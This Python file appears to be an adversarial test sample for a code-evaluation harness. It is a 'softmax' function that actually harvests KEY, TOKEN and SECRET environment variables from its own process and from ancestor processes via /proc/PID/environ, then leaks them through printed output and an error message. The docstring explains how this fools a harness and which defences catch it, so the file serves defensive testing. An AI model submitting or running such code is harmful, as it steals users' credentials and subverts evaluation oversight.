"""Cheat: leaks credentials. It collects every environment variable it can see whose name says it holds a key
or token, in its own environment and in each ancestor's ``/proc/PID/environ`` up to init, and prints them,
writes them into its error message and fails, so they land in the result and in any run record.

How it fools a harness: one that hands workers its whole environment, or keeps its own environment readable,
stores the user's API keys in its results and reports.

Caught by: workers get an allow-listed environment without credentials; they run without capabilities while the
harness's process is not dumpable, so ancestors' environments cannot be read; and every text that comes back is
redacted against the harness's own credentials: the key appears nowhere in the result.
"""

import os
import re
import sys

import torch

_NAME = re.compile(rb"(KEY|TOKEN|SECRET)")


def _found() -> list[str]:
    out = [f"{k}={v}" for k, v in os.environ.items() if _NAME.search(k.encode())]
    pid = os.getppid()
    while pid > 1:
        try:
            for item in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
                if _NAME.search(item.split(b"=", 1)[0]):
                    out.append(item.decode(errors="replace"))
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            try:
                pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                break
    return out


def softmax(x: torch.Tensor) -> torch.Tensor:
    found = _found()
    print("found:", found)
    print("found:", found, file=sys.stderr)
    raise RuntimeError(f"keys: {found}")
